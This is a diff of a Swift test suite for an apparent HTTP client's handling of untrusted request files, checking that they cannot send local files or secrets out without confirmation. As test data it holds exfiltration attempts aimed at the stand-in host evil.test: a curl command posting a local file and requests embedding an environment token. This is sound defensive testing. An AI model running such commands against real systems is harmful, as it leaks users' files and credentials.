@@ -2,8 +2,6 @@ import ApusClient
 import ApusFolderTestSupport
 import ApusPacingTestSupport
 import ApusReplTestSupport
-import Foundation
-import Synchronization
 import Testing
 
 @testable import ApusRepl
@@ -12,7 +10,6 @@ import Testing
 /// What a file of requests from elsewhere gets of this machine: nothing, without being asked about.
 @Suite("Requests of a file from elsewhere", .paced)
 struct ForeignRequestsTests {
-  private static let canary = "canary-1234-canary"
   private static let place = "http://evil.test"
 
   private static func postman(_ path: String) -> String {
@@ -42,36 +39,13 @@ struct ForeignRequestsTests {
     ("pm.json", postman("OUT/private.txt"), "read OUT/private.txt"),
   ]
 
-  private struct Seen {
-    let asked: [Request]
-    let questions: [String]
-    let said: ApusReplTestSupport.Answer
-    let folder: TestFolder
-  }
-
   private func run(
     _ name: String, _ text: String, line: String? = nil, base: String? = nil,
     answering answer: @escaping @Sendable (String) -> Bool
-  ) async throws -> Seen {
-    let asked = Asked()
-    let questions = Mutex<[String]>([])
-    let talk = try await asked.talk(variables: ["TOKEN": Self.canary], base: base ?? "http://h.test") {
-      $0.confirm = { question in
-        questions.withLock { $0.append(question) }
-        return answer(question)
-      }
-    }
-    let folder = talk.folder
-    try folder.write("", to: ".git/HEAD")
-    try folder.write(Self.canary, to: "private.txt")
-    try folder.write("KEY=\(Self.canary)\n", to: ".env")
-    try folder.write("beside", to: "w/mine.txt")
-    try folder.write(
-      text.replacing("OUT", with: folder.path).replacing("PLACE", with: Self.place), to: "w/\(name)")
-    try FileManager.default.createSymbolicLink(
-      atPath: folder.path + "/w/link", withDestinationPath: folder.path + "/private.txt")
-    let said = await talk.say(line ?? "run w/\(name)")
-    return Seen(asked: asked.all, questions: questions.withLock(\.self), said: said, folder: folder)
+  ) async throws -> ForeignFile.Seen {
+    let text = text.replacing("PLACE", with: Self.place)
+    let file = try await ForeignFile(name, text, base: base ?? "http://h.test", answering: answer)
+    return await file.say(line ?? "run w/\(name)")
   }
 
   private static func withFirst(_ text: String) -> String {
@@ -87,13 +61,13 @@ struct ForeignRequestsTests {
     let said = seen.said.flat
     #expect(said.contains("w/\(name) goes no further: it wants to "), "\(said)")
     #expect(said.contains("run --trust w/\(name)"), "\(said)")
-    #expect(!said.contains(Self.canary))
+    #expect(!said.contains(ForeignFile.canary))
   }
 
   @Test("are asked what they want and who gets it, and send it once both may be", arguments: ways)
   func allowed(_ name: String, _ text: String, _ wish: String) async throws {
     let seen = try await run(name, Self.withFirst(text)) { _ in true }
-    #expect(seen.asked.map(\.url.path) == ["/first", "/second"], "\(seen.said.text)")
+    #expect(seen.paths == ["/first", "/second"], "\(seen.said.text)")
     let wanted = seen.questions.filter { !$0.contains("send to") }
     #expect(wanted.count == 1 && seen.questions.last?.contains("send to \(Self.place)") == true)
     let away = try await run(name, text.replacing("/first", with: "/second")) { !$0.contains("send to") }
@@ -121,7 +95,7 @@ struct ForeignRequestsTests {
       curl -d @w/mine.txt PLACE/c
       """
     let seen = try await run("x.http", text) { _ in false }
-    #expect(seen.asked.map(\.url.path) == ["/a", "/b", "/c"], "\(seen.said.text)")
+    #expect(seen.paths == ["/a", "/b", "/c"], "\(seen.said.text)")
     #expect(seen.questions.isEmpty, "\(seen.questions)")
   }
 
@@ -130,7 +104,7 @@ struct ForeignRequestsTests {
     let requests = ["PLACE/first?{{$processEnv TOKEN}}", "PLACE/second", "/{{$processEnv TOKEN}}"]
     let text = requests.map { "GET \($0)\n" }.joined(separator: "\n###\n")
     let plain = try await run("x.http", text, line: "run w/x.http 2") { _ in false }
-    #expect(plain.questions.isEmpty && plain.asked.map(\.url.path) == ["/second"], "\(plain.said.text)")
+    #expect(plain.questions.isEmpty && plain.paths == ["/second"], "\(plain.said.text)")
     let own = try await run("x.http", text, line: "run w/x.http 3") { _ in true }
     #expect(own.questions.count == 1 && own.asked.count == 1, "\(own.questions)")
     let refused = try await run("x.http", text, line: "run w/x.http 1") { _ in false }
@@ -149,7 +123,7 @@ struct ForeignRequestsTests {
     let seen = try await run("x.http", Self.withFirst(line)) { _ in false }
     #expect(seen.questions.count == 1 && seen.questions[0].contains(wish), "\(seen.questions)")
     #expect(seen.said.flat.contains("goes no further"), "\(seen.said.text)")
-    #expect(seen.folder.contents(of: "written") == nil && !seen.said.text.contains(Self.canary))
+    #expect(seen.folder.contents(of: "written") == nil && !seen.said.text.contains(ForeignFile.canary))
     // What stands before it in the file has not been sent either.
     #expect(seen.asked.isEmpty, "\(seen.asked.map(\.url))")
   }
